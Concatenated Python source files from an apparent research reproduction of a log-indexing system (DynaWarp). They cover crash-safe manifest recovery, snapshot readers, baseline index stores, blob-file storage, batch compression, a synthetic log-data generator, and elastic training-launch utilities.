             fsync: bool = False) -> "DynaWarpStore":
        """Recover a durable store from its MANIFEST.json: orphan files
        from any interrupted publish are swept, live segments open
        ``np.memmap``-backed (only each file's header page is read up
        front), and the query engine rebuilds over durable segment ids —
        so a store reopened in the same process re-uploads no device
        buffers it already staged.

        A FINISHED manifest comes back read-only (queryable and
        compactable).  An UNFINISHED one — published by a per-spill swap
        before the writer crashed — comes back writable: the blob file
        reopens for append (truncating any torn tail past the manifested
        extents), the segment writer rehydrates its tiered temporaries
        from the manifested sealed sources, and ``ingest()`` +
        ``finish()`` resume exactly where the last publish left off.
        Everything after the last published spill is lost by design; the
        recovered line count is always the last manifested batch
        boundary."""
        mpath = os.path.join(path, MANIFEST_NAME)
        if not os.path.exists(mpath):
            raise FileNotFoundError(
                f"{path}: no {MANIFEST_NAME} — no store was ever published "
                f"here (a crash before the first manifest swap publishes "
                f"nothing)")
        with open(mpath) as f:
            man = json.load(f)
        if man.get("format", 0) > MANIFEST_FORMAT:
            raise ValueError(f"{path}: manifest format {man['format']} is "
                             f"newer than this reader ({MANIFEST_FORMAT})")
        cfg = man["config"]
        finished = bool(man.get("finished", True))
        store = cls(batch_lines=cfg["batch_lines"], mode=cfg["mode"],
                    sig_bits=cfg["sig_bits"], ngrams=cfg["ngrams"],
                    device_query=device_query, columnar=cfg["columnar"],
                    plane_budget_bytes=cfg["plane_budget_bytes"],
                    compact_fanout=cfg["compact_fanout"],
                    auto_compact=cfg["auto_compact"],
                    memory_limit_bytes=cfg.get("memory_limit_bytes",
                                               32 << 20),
                    publish_per_spill=cfg.get("publish_per_spill", True),
                    compact_retry=cfg.get("compact_retry", 3),
                    compact_backoff_s=cfg.get("compact_backoff_s", 0.05),
                    shard_axes=shard_axes, extract_on_device=extract_on_device,
                    background_compact=background_compact)
        store.path = path
        store.mmap = mmap
        store.fsync = fsync
        store._manifest_gen = int(man["generation"])
        store._seg_seq = int(man["seg_seq"])
        store._blob_name = man["blob_file"]
        # recovery sweep BEFORE anything loads: a crash between a segment
        # write and the manifest swap leaves orphans; the manifest is truth
        _gc_orphan_files(path, {e["file"] for e in man["segments"]})
        store.blobs = BlobFile(os.path.join(path, man["blob_file"]),
                               extents=man["blob_extents"],
                               writable=not finished, fsync=fsync)
        store.batch_start = [int(x) for x in man["batch_start"]]
        store._n_lines = int(man["n_lines"])
        store.stats = IngestStats(**man["stats"])
        segs = []
        for e in man["segments"]:
            fpath = os.path.join(path, e["file"])
            sk = serial.load(fpath, mmap=mmap)
            sk.durable_id = f"{os.path.abspath(fpath)}@g{int(e['gen'])}"
            sk._durable_file = e["file"]
            sk._durable_gen = int(e["gen"])
            sk._durable_bytes = int(e["bytes"])
            segs.append(sk)
        store.segments = segs
        store._seg_by_part = {id(sk.sealed_source): sk for sk in segs
                              if sk.sealed_source is not None}
        store._covered_batches = store._spill_covered = len(store.blobs)
        if store.mode != "segmented" and len(segs) == 1:
            store.sketch = segs[0]
        store._finished = finished
        if not finished:
            if store.mode != "segmented":
                raise ValueError(
                    f"{path}: unfinished manifest with mode="
                    f"{store.mode!r} — only segmented stores publish "
                    f"mid-ingest")
            if any(sk.sealed_source is None for sk in segs):
                raise ValueError(f"{path}: unfinished manifest references "
                                 f"a segment without its sealed source")
            # rehydrate the writer: the manifested segments ARE its
            # tiered temporaries (memmap-backed), ready for more spills
            w = store._writer
            w.temporaries = [sk.sealed_source for sk in segs]
            winfo = man.get("writer") or {}
            w.n_spills = int(winfo.get("n_spills", len(segs)))
            w.n_compactions = int(winfo.get("n_compactions", 0))
        if store.device_query:
            store.engine = store._build_engine()
        return store

    def _build_engine(self) -> QueryEngine:
        """The wave engine over the current segments.  Used at finish()
        AND after every compaction, so rebuilds keep the sharding layout:
        surviving segments reuse their uploaded (per-shard) device
        buffers, merged segments upload once on their first wave."""
        if self.shard_axes is not None:
            from ..core.distributed import ShardedQueryEngine
            return ShardedQueryEngine(self.segments,
                                      n_postings=len(self.blobs),
                                      shard_axes=self.shard_axes,
                                      extract_on_device=self.extract_on_device)
        return QueryEngine(self.segments, n_postings=len(self.blobs),
                           extract_on_device=self.extract_on_device)

    def index_bytes(self) -> int:
        if self.segments:
            return sum(s.size_bytes() for s in self.segments)
        return self.sketch.size_bytes() if self.sketch else 0

    def _candidates(self, tokens) -> np.ndarray:
        if not self._finished and self.mode == "segmented":
            return self._live_candidates(tokens)
        if self.engine is not None:
            return self.engine.query(tokens, op="and")
        return query_and(self.sketch, tokens)

    def _live_candidates(self, tokens) -> np.ndarray:
        """Queries served DURING ingest (mode='segmented'): each token's
        posting set is the union of (a) exact binary-search lookups in
        every sealed temporary's posting columns and (b) the writer's
        live columnar tail-buffer probe — covering every flushed batch,
        manifested or not, with zero sketch false positives.  The partial
        line buffer (< batch_lines lines) is not a batch yet and is not
        visible.  Single-threaded with the ingester by design; a
        concurrent reader thread uses :meth:`snapshot` instead."""
        fps = [token_fingerprint(t) for t in tokens]
        if not fps:
            return np.empty(0, np.int64)
        with self._seg_lock:
            parts = list(self._writer.temporaries)
            per_token = []
            for fp in fps:
                sets = []
                for part in parts:
                    got = sealed_postings(part, fp)
                    if got is not None:
                        sets.append(got)
                live = self._writer.live_postings(fp)
                if len(live):
                    sets.append(live)
                per_token.append(np.unique(np.concatenate(sets)) if sets
                                 else np.empty(0, np.int64))
        acc = per_token[0]
        for posts in per_token[1:]:
            acc = np.intersect1d(acc, posts)
        return acc.astype(np.int64)

    def candidates_term(self, term: str) -> np.ndarray:
        return self._candidates(term_query_tokens(term))

    def candidates_contains(self, term: str) -> np.ndarray:
        tokens = contains_query_tokens(term)
        if not tokens:
            return np.arange(len(self.blobs), dtype=np.int64)  # full scan
        return self._candidates(tokens)

    def candidates_term_batch(self, terms: list[str]) -> list[np.ndarray]:
        """One engine wave answers the whole batch of term queries."""
        if not self._finished and self.mode == "segmented":
            return [self._live_candidates(term_query_tokens(t))
                    for t in terms]
        if self.engine is None:
            return super().candidates_term_batch(terms)
        return self.engine.query_batch(
            [term_query_tokens(t) for t in terms], op="and")

    # ---------------------------------------------------------------- serving
    def serving(self, *, n_replicas: int = 1, **scheduler_kw):
        """The wave-coalescing serving front end over this store
        (:class:`~repro.core.serving.StoreServer`): many client threads
        submit term/boolean queries, the scheduler coalesces them into
        shape-bucketed engine waves with ``max_live_waves`` admission
        control, and answers are bit-identical to direct
        ``query_term_batch`` calls.

        A FINISHED store serves itself (all batches).  An unfinished
        segmented store serves :meth:`snapshot` views — point-in-time
        prefixes that a background ``server.refresh()`` cadence
        advances while the writer keeps ingesting; every answer stays
        consistent with some published prefix.  ``n_replicas`` engine
        replicas (cheap: shared per-segment device caches via
        :meth:`~repro.core.query_engine.QueryEngine.clone`) let up to
        ``max_live_waves`` waves overlap.  Close the server (context
        manager or ``close()``) to drain its worker threads."""
        from ..core.serving import StoreServer
        if self._finished:
            if self.engine is None:
                raise ValueError("serving requires device_query=True")
            return StoreServer(lambda: self, n_replicas=n_replicas,
                               **scheduler_kw)
        if self.mode != "segmented":
            raise ValueError("serving an unfinished store requires "
                             "mode='segmented' (snapshot readers)")
        return StoreServer(self.snapshot, n_replicas=n_replicas,
                           **scheduler_kw)

    # ------------------------------------------------------------- live reads
    def snapshot(self) -> "StoreSnapshot":
        """Point-in-time reader over the published prefix; safe to use
        from another thread while this store keeps ingesting.  The engine
        and its covered batch count swap together under the publish lock
        at every spill publish / compaction / finish, so a snapshot
        always sees a complete prefix — never a torn half-published
        state.  RAM stores (and ``publish_per_spill=False``) sync their
        segment view lazily here."""
        with self._seg_lock:
            if self._segments_stale:
                self._sync_segments(publish=False)
            return StoreSnapshot(self)


class StoreSnapshot:
    """Frozen point-in-time reader over a :class:`DynaWarpStore` prefix.

    Captured atomically under the store's publish lock (see
    :meth:`DynaWarpStore.snapshot`): the engine, the covered batch count,
    and a copy of the batch-start prefix swap together, so every answer
    is exact over the first ``n_batches`` flush batches — the same prefix
    a crash at capture time would recover.  Blob extents and batch starts
    are append-only, so reads below the cutoff stay valid forever while
    the writer keeps appending; the snapshot keeps its own decompress
    LRU because the writer thread mutates the store's."""

    def __init__(self, store: "DynaWarpStore"):
        with store._seg_lock:
            self.engine = store.engine
            self.n_batches = int(store._covered_batches)
            self.batch_start = [int(x)
                                for x in store.batch_start[:self.n_batches + 1]]
            self.blobs = store.blobs
        self.n_lines = self.batch_start[-1] if self.batch_start else 0
        self._batch_cache: OrderedDict[int, tuple] = OrderedDict()
        self._batch_cache_cap = 32
        self._batch_cache_lock = threading.Lock()

    # -------------------------------------------------------- candidates
    def _candidates(self, tokens) -> np.ndarray:
        if self.engine is None or not tokens:
            return np.empty(0, np.int64)
        cand = np.asarray(self.engine.query(tokens, op="and"), np.int64)
        return cand[cand < self.n_batches]

    def candidates_term(self, term: str) -> np.ndarray:
        return self._candidates(term_query_tokens(term))

    def candidates_contains(self, term: str) -> np.ndarray:
        tokens = contains_query_tokens(term)
        if not tokens:
            return np.arange(self.n_batches, dtype=np.int64)
        return self._candidates(tokens)

    def candidates_term_batch(self, terms: list[str]) -> list[np.ndarray]:
        if self.engine is None:
            return [np.empty(0, np.int64) for _ in terms]
        out = self.engine.query_batch(
            [term_query_tokens(t) for t in terms], op="and")
        return [np.asarray(c, np.int64)[np.asarray(c, np.int64)
                                        < self.n_batches] for c in out]

    # ------------------------------------------------------------ queries
    def query_term(self, term: str) -> QueryResult:
        return self._post_filter(self.candidates_term(term), term, "term")

    def query_contains(self, term: str) -> QueryResult:
        return self._post_filter(self.candidates_contains(term), term,
                                 "contains")

    def query_term_batch(self, terms: list[str]) -> list[QueryResult]:
        return [self._post_filter(c, t, "term")
                for c, t in zip(self.candidates_term_batch(terms), terms)]

    def _batch_lower(self, b: int) -> tuple[list[str], list[str]]:
        with self._batch_cache_lock:
            hit = self._batch_cache.get(b)
            if hit is not None:
                self._batch_cache.move_to_end(b)
                return hit
        lines = decompress_batch(self.blobs[b])
        entry = (lines, [ln.lower() for ln in lines])
        with self._batch_cache_lock:
            self._batch_cache[b] = entry
            if len(self._batch_cache) > self._batch_cache_cap:
                self._batch_cache.popitem(last=False)
        return entry

    def _post_filter(self, candidates: np.ndarray, term: str,
                     mode: str) -> QueryResult:
        term_l = term.lower()
        matches: list[int] = []
        true_batches = 0
        for b in candidates:
            _, lowered = self._batch_lower(int(b))
            base = self.batch_start[int(b)]
            hit = False
            for i, low in enumerate(lowered):
                if term_l not in low:
                    continue
                if mode == "contains" \
                        or LogStoreBase._term_in_line(term_l, low):
                    matches.append(base + i)
                    hit = True
            true_batches += hit
        return QueryResult(matches=matches,
                           candidate_batches=np.asarray(candidates),
                           true_batches=true_batches,
                           batches_total=self.n_batches)


class CscStore(LogStoreBase):
    """CSC sketch baseline; sized at finish() to ``m_bits`` (the benchmark
    passes the next power of two above the DynaWarp sketch size, §5.1.3)."""
    name = "csc"

    def __init__(self, *, batch_lines: int = 512, m_bits: int | None = None,
                 k: int = 4, p: int = 64, j: int = 1):
        super().__init__(batch_lines=batch_lines)
        self.m_bits = m_bits
        self.k, self.p, self.j = k, p, j
        self._fp_chunks: list[np.ndarray] = []
        self._post_chunks: list[np.ndarray] = []
        self.sketch: CSCSketch | None = None

    def _index_line(self, line: str, batch_id: int) -> None:
        fps = self._line_fingerprints(line, ngrams=True)
        self.stats.n_tokens_indexed += len(fps)
        self._fp_chunks.append(fps)
        self._post_chunks.append(np.full(fps.shape, batch_id, np.int64))

    def _seal_index(self) -> None:
        m_bits = self.m_bits or max(64, 16 * self._n_lines)
        self.sketch = CSCSketch.build(m_bits=m_bits, k=self.k, p=self.p,
                                      j=self.j, n_sets=len(self.blobs))
        if self._fp_chunks:
            self.sketch.insert_batch(np.concatenate(self._fp_chunks),
                                     np.concatenate(self._post_chunks))
        self._fp_chunks = self._post_chunks = None

    def index_bytes(self) -> int:
        return self.sketch.size_bits() // 8 if self.sketch else 0

    def candidates_term(self, term: str) -> np.ndarray:
        # §5.2: CSC additionally intersects the n-grams of the query term
        # to reduce its error rate.
        tokens = (term_query_tokens(term) + contains_query_tokens(term))
        fps = np.asarray([token_fingerprint(t) for t in tokens], np.uint32)
        return self.sketch.query_all_tokens(fps)

    def candidates_contains(self, term: str) -> np.ndarray:
        tokens = contains_query_tokens(term)
        if not tokens:
            return np.arange(len(self.blobs), dtype=np.int64)
        fps = np.asarray([token_fingerprint(t) for t in tokens], np.uint32)
        return self.sketch.query_all_tokens(fps)


class LuceneStore(LogStoreBase):
    """Inverted-index baseline: full tokens (rules 1-5 only), exact
    postings, contains via lexicon scan."""
    name = "lucene"
    uses_ngrams = False

    def __init__(self, *, batch_lines: int = 512):
        super().__init__(batch_lines=batch_lines)
        self.index = InvertedIndex()

    def _index_line(self, line: str, batch_id: int) -> None:
        tokens = tokenize_line(line, ngrams=False)
        self.stats.n_tokens_indexed += len(tokens)
        self.index.add_line(tokens, batch_id)

    def _seal_index(self) -> None:
        self.index.seal()

    def index_bytes(self) -> int:
        return self.index.size_bits() // 8

    def candidates_term(self, term: str) -> np.ndarray:
        return self.index.lookup_term(term.lower().encode())

    def candidates_contains(self, term: str) -> np.ndarray:
        """Lexicon-scan contains (§2.1).  Patterns that SPAN token
        boundaries (e.g. the Log4Shell "${jndi") cannot match inside any
        single lexicon entry; like a real query planner we AND the
        postings of the pattern's full-token fragments, falling back to a
        full scan when no fragment is indexed."""
        needle = term.lower().encode()
        direct = self.index.lookup_contains(needle)
        if len(direct):
            return direct
        frags = [t for t in tokenize_line(term.lower(), ngrams=False)
                 if t != needle]
        out = None
        for f in frags:
            hit = self.index.lookup_contains(f)
            if len(hit) == 0:
                continue
            out = hit if out is None else np.intersect1d(out, hit)
        if out is None:  # nothing indexed covers the pattern: scan all
            return np.arange(len(self.blobs), dtype=np.int64)
        return out


class BloomStore(LogStoreBase):
    """One Bloom filter per batch (§2.2's trivial MS-MMQ extension)."""
    name = "bloom"

    def __init__(self, *, batch_lines: int = 512, bits_per_batch: int = 1 << 16,
                 k: int = 4):
        super().__init__(batch_lines=batch_lines)
        self.bits_per_batch = bits_per_batch
        self.k = k
        self._pending: dict[int, list[np.ndarray]] = {}
        self.sketch: BloomPerBatch | None = None

    def _index_line(self, line: str, batch_id: int) -> None:
        fps = self._line_fingerprints(line, ngrams=True)
        self.stats.n_tokens_indexed += len(fps)
        self._pending.setdefault(batch_id, []).append(fps)

    def _seal_index(self) -> None:
        self.sketch = BloomPerBatch.build(len(self.blobs),
                                          self.bits_per_batch, self.k)
        for b, chunks in self._pending.items():
            self.sketch.insert_batch(np.concatenate(chunks), b)
        self._pending = {}

    def index_bytes(self) -> int:
        return self.sketch.size_bits() // 8 if self.sketch else 0

    def candidates_term(self, term: str) -> np.ndarray:
        fps = [token_fingerprint(t) for t in term_query_tokens(term)]
        return self.sketch.query_all_tokens(fps)

    def candidates_contains(self, term: str) -> np.ndarray:
        tokens = contains_query_tokens(term)
        if not tokens:
            return np.arange(len(self.blobs), dtype=np.int64)
        fps = [token_fingerprint(t) for t in tokens]
        return self.sketch.query_all_tokens(fps)


ALL_STORES = {
    "dynawarp": DynaWarpStore,
    "csc": CscStore,
    "lucene": LuceneStore,
    "bloom": BloomStore,
    "scan": ScanStore,
}
