"""Append-only blob files: the durable home of compressed data batches.

One ``BlobFile`` is a magic header followed by raw blobs back to back —
no in-file framing.  The (offset, length) extent of every blob lives in
the store's MANIFEST.json instead, which makes the crash contract trivial:
a torn trailing append is invisible because no manifest ever points at it,
and reopening truncates the file back to the last published extent.

The object is list-like on purpose — ``append`` / ``len`` / ``[i]`` — so
``LogStoreBase.blobs`` can be either the in-RAM ``list[bytes]`` or a
``BlobFile`` with zero call-site changes; reads are served on demand via
``os.pread`` (decompression streams from disk, nothing is resident).
"""
from __future__ import annotations

import os

from ..core.faults import fault_point
from ..core.serial import fsync_dir

MAGIC = b"DWBL0001"


class BlobFile:
    """Offset-indexed reader + appender over one append-only blob file."""

    def __init__(self, path: str, *, extents: list | None = None,
                 writable: bool = True, fsync: bool = False):
        self.path = path
        self.fsync = fsync
        self.writable = writable
        self._dir_synced = False
        self.extents: list[tuple[int, int]] = \
            [(int(o), int(n)) for o, n in (extents or [])]
        exists = os.path.exists(path)
        flags = (os.O_RDWR | os.O_CREAT) if writable else os.O_RDONLY
        self._fd = os.open(path, flags)
        if not exists:
            os.write(self._fd, MAGIC)
        elif os.pread(self._fd, len(MAGIC), 0) != MAGIC:
            os.close(self._fd)
            raise ValueError(f"{path}: bad blob-file magic")
        end = (self.extents[-1][0] + self.extents[-1][1]
               if self.extents else len(MAGIC))
        if writable and os.fstat(self._fd).st_size > end:
            # drop bytes beyond the last published extent (a torn append
            # from a crashed writer) before appending over them
            os.ftruncate(self._fd, end)
        self._end = end

    # ---------------------------------------------------------- list-like
    def append(self, blob: bytes) -> int:
        if not self.writable:
            raise ValueError(f"{self.path}: opened read-only")
        fault_point("blob.append")
        off = self._end
        try:
            fault_point("blob.append.torn")
        except BaseException:
            # leave the torn tail a real mid-write kill would: part of the
            # blob on disk, no extent recorded (reopen must truncate it)
            os.pwrite(self._fd, blob[:len(blob) // 2 + 1], off)
            raise
        os.pwrite(self._fd, blob, off)
        self._end = off + len(blob)
        self.extents.append((off, len(blob)))
        return len(self.extents) - 1

    def __len__(self) -> int:
        return len(self.extents)

    def __getitem__(self, i: int) -> bytes:
        off, n = self.extents[i]
        return os.pread(self._fd, n, off)

    def __iter__(self):
        return (self[i] for i in range(len(self)))

    # ----------------------------------------------------------- lifecycle
    def data_bytes(self) -> int:
        """Published payload bytes (excludes the magic header)."""
        return self._end - len(MAGIC)

    def sync(self) -> None:
        """Make every appended blob durable (no-op unless ``fsync``; safe
        on a closed file so ``close()`` stays idempotent).  The first sync
        also fsyncs the containing directory: file fsync does not persist
        the file's own directory entry, so without it a freshly created
        blob file can vanish entirely on power loss even though its bytes
        were synced (the manifest/segment publishes already fsync their
        directory after ``os.replace`` for the same reason)."""
        if self.fsync and self.writable and self._fd is not None:
            fault_point("blob.fsync")
            os.fsync(self._fd)
            if not self._dir_synced:
                fsync_dir(os.path.dirname(os.path.abspath(self.path)))
                self._dir_synced = True

    def close(self) -> None:
        fd = getattr(self, "_fd", None)
        if fd is not None:
            os.close(fd)
            self._fd = None

    def __del__(self):  # pragma: no cover - GC-timing dependent
        try:
            self.close()
        except OSError:
            pass
