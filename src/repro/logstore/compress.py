"""Batch compression for the log store (§5: zStandard, batched records).

zstandard is optional: containers without it fall back to stdlib zlib
(same batched-blob protocol, slightly worse ratio).  Blobs are tagged
with a 1-byte header so the codecs can coexist; zlib-tagged blobs are
readable everywhere, zstd-tagged blobs need zstandard installed (a
clear RuntimeError says so).
"""
from __future__ import annotations

import zlib

try:
    import zstandard as zstd
    _CCTX = zstd.ZstdCompressor(level=3)
    _DCTX = zstd.ZstdDecompressor()
    HAVE_ZSTD = True
except ImportError:  # pragma: no cover - depends on container
    zstd = None
    _CCTX = _DCTX = None
    HAVE_ZSTD = False

_TAG_ZSTD = b"z"
_TAG_ZLIB = b"d"


def compress_batch(lines: list[str]) -> bytes:
    raw = "\n".join(lines).encode("utf-8")
    if HAVE_ZSTD:
        return _TAG_ZSTD + _CCTX.compress(raw)
    return _TAG_ZLIB + zlib.compress(raw, 6)


def decompress_batch(blob: bytes) -> list[str]:
    tag, payload = blob[:1], blob[1:]
    if tag == _TAG_ZLIB:
        raw = zlib.decompress(payload)
    else:  # zstd-tagged, or legacy untagged zstd blob
        if not HAVE_ZSTD:
            raise RuntimeError(
                "this store was written with zstandard; install it to read")
        raw = _DCTX.decompress(payload if tag == _TAG_ZSTD else blob)
    return raw.decode("utf-8").split("\n")
