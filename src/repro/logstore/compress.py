"""Batch compression for the log store (§5: zStandard, batched records)."""
from __future__ import annotations

import zstandard as zstd

_CCTX = zstd.ZstdCompressor(level=3)
_DCTX = zstd.ZstdDecompressor()


def compress_batch(lines: list[str]) -> bytes:
    return _CCTX.compress("\n".join(lines).encode("utf-8"))


def decompress_batch(blob: bytes) -> list[str]:
    return _DCTX.decompress(blob).decode("utf-8").split("\n")
