"""Synthetic LogHub-style dataset generator (§5, Table 2).

The paper cannot publish its production data and instead ships a generator
that matches the statistical properties (lines-per-source distribution,
template redundancy) of production logs using the public LogHub corpus.
This module is the analogous generator: a library of realistic log
templates (HDFS / Spark / SSH / k8s flavored), Zipf-distributed source
volumes, and placeholder variables (IPs, 16-letter ids, hex ids, paths,
numbers) — everything needed to reproduce the paper's four query
scenarios (term/contains × ID/IP + extracted terms).
"""
from __future__ import annotations

import string
from dataclasses import dataclass

import numpy as np

_TEMPLATES = [
    "INFO dfs.DataNode$PacketResponder: PacketResponder {num} for block blk_{id} terminating",
    "INFO dfs.FSNamesystem: BLOCK* NameSystem.addStoredBlock: blockMap updated: {ip}:{port} is added to blk_{id} size {num}",
    "WARN dfs.DataNode: Slow BlockReceiver write packet to mirror took {num}ms (threshold=300ms)",
    "INFO spark.executor.Executor: Finished task {num}.0 in stage {num}.0 (TID {num}). {num} bytes result sent to driver",
    "INFO spark.storage.BlockManager: Found block rdd_{num}_{num} locally",
    "ERROR spark.scheduler.TaskSetManager: Task {num} in stage {num}.0 failed {num} times; aborting job",
    "INFO sshd[{num}]: Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{hex}",
    "INFO sshd[{num}]: Connection closed by {ip} port {port} [preauth]",
    "WARN sshd[{num}]: Failed password for invalid user {user} from {ip} port {port} ssh2",
    "INFO kubelet: Successfully pulled image \"registry.local/{user}/{id}:v{num}\" in {num}ms",
    "ERROR kubelet: Pod \"{id}\" failed to start: container {hex} exited with code {num}",
    "INFO nginx: {ip} - - GET /api/v{num}/users/{id} HTTP/1.1 200 {num}",
    "INFO nginx: {ip} - - POST /api/v{num}/sessions HTTP/1.1 401 {num}",
    "INFO app.RequestHandler: request_id={id} user={user} latency_ms={num} status=OK",
    "WARN app.RetryPolicy: retrying request_id={id} attempt={num} backoff_ms={num}",
    "ERROR app.Db: connection to {ip}:{port} lost: timeout after {num}ms (pool={user})",
    "INFO gc: pause {num}ms heap {num}M->{num}M",
    "DEBUG cache.LRU: evicted key={hex} size={num}B age={num}s",
    "INFO auth.TokenService: issued token {hex} for tenant {user} ttl={num}s",
    "WARN quota.Limiter: tenant {user} exceeded {num} req/s, throttling request_id={id}",
]

_USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
          "ivan", "judy", "mallory", "oscar", "peggy", "trent", "victor",
          "walter", "svc-ingest", "svc-query", "svc-batch", "root"]


@dataclass
class LogDataset:
    name: str
    lines: list[str]
    sources: np.ndarray        # (N,) int32 source id per line
    seed: int

    @property
    def n_lines(self) -> int:
        return len(self.lines)

    def raw_bytes(self) -> int:
        return sum(len(l) for l in self.lines) + self.n_lines


def _rand_ip(rng) -> str:
    return ".".join(str(int(x)) for x in rng.integers(1, 255, size=4))


def _rand_id(rng, n=16) -> str:
    letters = np.frombuffer(string.ascii_lowercase.encode(), np.uint8)
    return bytes(rng.choice(letters, size=n)).decode()


def _rand_hex(rng, n=12) -> str:
    digits = np.frombuffer(b"0123456789abcdef", np.uint8)
    return bytes(rng.choice(digits, size=n)).decode()


def generate_dataset(name: str, *, n_lines: int, n_sources: int,
                     seed: int = 0, zipf_a: float = 1.4,
                     values_per_source: int = 40) -> LogDataset:
    """LogHub-style synthetic logs matching production *statistics*:
    Zipf lines-per-source, per-source template dialects, and — crucially
    for index size (§5.1.3) — per-source VALUE POOLS: real services log
    the same request ids / peers / users over and over, so variable slots
    draw from a bounded pool instead of being unique per line (a fresh
    value still appears with small probability, so needle queries remain
    meaningful)."""
    rng = np.random.default_rng(seed)
    w = 1.0 / np.arange(1, n_sources + 1) ** zipf_a
    w /= w.sum()
    source_of_line = rng.choice(n_sources, size=n_lines, p=w)
    source_of_line.sort()  # sources arrive clustered, like partitioned ingest
    tpl_per_source = [rng.choice(len(_TEMPLATES),
                                 size=int(rng.integers(2, 6)), replace=False)
                      for _ in range(n_sources)]
    pools = [dict(ip=[_rand_ip(rng) for _ in range(values_per_source)],
                  id=[_rand_id(rng) for _ in range(values_per_source)],
                  hex=[_rand_hex(rng) for _ in range(values_per_source)])
             for _ in range(n_sources)]

    def draw(pool, kind):
        if rng.random() < 0.02:  # rare fresh value (long-tail ids)
            return {"ip": _rand_ip, "id": _rand_id,
                    "hex": _rand_hex}[kind](rng)
        return pool[kind][int(rng.integers(len(pool[kind])))]

    lines = []
    for i in range(n_lines):
        src = int(source_of_line[i])
        pool = pools[src]
        tpl = _TEMPLATES[int(rng.choice(tpl_per_source[src]))]
        line = tpl
        while "{" in line:
            line = line.replace("{num}", str(int(rng.integers(0, 100000))), 1)
            line = line.replace("{port}", str(int(rng.integers(1024, 65535))), 1)
            line = line.replace("{ip}", draw(pool, "ip"), 1)
            line = line.replace("{id}", draw(pool, "id"), 1)
            line = line.replace("{hex}", draw(pool, "hex"), 1)
            line = line.replace("{user}", _USERS[int(rng.integers(len(_USERS)))], 1)
        lines.append(line)
    return LogDataset(name=name, lines=lines,
                      sources=source_of_line.astype(np.int32), seed=seed)


# ---------------------------------------------------------------- workloads
def id_queries(rng_seed: int, n: int) -> list[str]:
    """Random 16-letter needle-in-the-haystack identifiers (§5.2)."""
    rng = np.random.default_rng(rng_seed)
    return [_rand_id(rng) for _ in range(n)]


def ip_queries(rng_seed: int, n: int) -> list[str]:
    """Random partial (3-octet) IP addresses (§5.2)."""
    rng = np.random.default_rng(rng_seed)
    return [".".join(str(int(x)) for x in rng.integers(1, 255, size=3))
            for _ in range(n)]


def extracted_term_queries(ds: LogDataset, rng_seed: int, n: int) -> list[str]:
    """Terms sampled from the data itself (the term(extracted) scenario —
    queries that match a relevant fraction of batches)."""
    from ..core.tokenizer import _ALNUM
    rng = np.random.default_rng(rng_seed)
    terms = []
    for _ in range(n):
        line = ds.lines[int(rng.integers(ds.n_lines))]
        toks = [t for t in _ALNUM.findall(line.lower()) if 4 <= len(t) <= 24]
        terms.append(toks[int(rng.integers(len(toks)))] if toks else "info")
    return terms


def present_id_queries(ds: LogDataset, rng_seed: int, n: int) -> list[str]:
    """16-letter ids that DO occur in the data (validates zero false
    negatives end-to-end)."""
    import re
    rng = np.random.default_rng(rng_seed)
    pat = re.compile(r"[a-z]{16}")
    out = []
    tries = 0
    while len(out) < n and tries < n * 50:
        line = ds.lines[int(rng.integers(ds.n_lines))]
        m = pat.search(line)
        if m:
            out.append(m.group())
        tries += 1
    return out or ["info"]
