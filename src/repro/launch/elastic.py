"""Elastic scaling + failure handling.

Posture for 1000+ nodes:
  * the mesh is a FUNCTION of the currently-healthy device set — on node
    loss the launcher rebuilds the largest (data', model) mesh that the
    survivors support and re-shards the latest checkpoint onto it
    (`remesh_state`),
  * global batch is preserved: the per-device batch grows as data' < data
    (`rebatch`), so the optimizer trajectory is unchanged,
  * failure detection: the step loop watches per-step wall time; a step
    exceeding ``straggler_factor`` x the trailing median flags a
    straggler (on real fleets this triggers hot-spare swap; here it is
    surfaced in metrics and test-exercised),
  * all state transitions go through the CheckpointManager, so crash ->
    restart -> resume is the same code path as elastic shrink/grow.
"""
from __future__ import annotations

import time
from dataclasses import dataclass, field

import jax
import numpy as np
from jax.sharding import NamedSharding

from . import shardings as sh


def largest_mesh_for(n_devices: int, model_parallel: int = 1):
    """Largest (data, model) mesh covering <= n_devices with the given TP
    degree — the survivor mesh after failures."""
    data = max(1, n_devices // model_parallel)
    # keep data a power of two for divisibility of batch reshapes
    data = 1 << (data.bit_length() - 1)
    return (data, model_parallel)


def make_mesh_from_devices(devices, shape, axis_names=("data", "model")):
    import numpy as np
    n = int(np.prod(shape))
    devs = np.asarray(devices[:n]).reshape(shape)
    return jax.sharding.Mesh(devs, axis_names)


def remesh_state(state_tree, spec_tree, new_mesh):
    """Re-shard a state pytree onto a new mesh (elastic shrink/grow).
    spec_tree: PartitionSpec tree matching state_tree."""
    from jax.sharding import PartitionSpec as P
    return jax.tree.map(
        lambda x, s: jax.device_put(np.asarray(x),
                                    NamedSharding(new_mesh, s)),
        state_tree, spec_tree,
        is_leaf=lambda x: not isinstance(x, (dict, list, tuple)))


@dataclass
class StragglerMonitor:
    straggler_factor: float = 3.0
    window: int = 32
    times: list = field(default_factory=list)
    flagged: int = 0

    def record(self, step_s: float) -> bool:
        """Returns True if this step is a straggler."""
        is_straggler = False
        if len(self.times) >= 8:
            med = float(np.median(self.times[-self.window:]))
            is_straggler = step_s > self.straggler_factor * med
        self.times.append(step_s)
        self.flagged += int(is_straggler)
        return is_straggler


@dataclass
class HealthState:
    """Failure-injection-friendly health registry (tests flip bits here
    to simulate node loss)."""
    n_devices: int
    healthy: np.ndarray = None

    def __post_init__(self):
        if self.healthy is None:
            self.healthy = np.ones(self.n_devices, bool)

    def fail(self, idx: int):
        self.healthy[idx] = False

    def survivors(self):
        return int(self.healthy.sum())
