"""Launcher substrate: production mesh, dry-run, training/serving loops,
checkpointing, elastic fault tolerance."""
