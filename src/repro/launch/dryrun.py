import os
os.environ["XLA_FLAGS"] = "--xla_force_host_platform_device_count=512"

"""Multi-pod dry-run: .lower().compile() every (arch x shape x mesh) cell.

Proves the distribution config is coherent without hardware:
  * builds the production mesh (16x16 single-pod / 2x16x16 multi-pod),
  * lowers the real step function against ShapeDtypeStruct inputs with the
    production in/out shardings,
  * compiles, records memory_analysis() (fits-in-HBM proof),
    cost_analysis() (FLOPs/bytes) and the collective schedule parsed from
    the optimized HLO (for EXPERIMENTS.md §Roofline).

Usage:
  python -m repro.launch.dryrun --arch olmo-1b --shape train_4k --mesh both
  python -m repro.launch.dryrun --all --mesh single --out results.json
"""
import argparse
import json
import re
import sys
import time
import traceback

import jax
import numpy as np


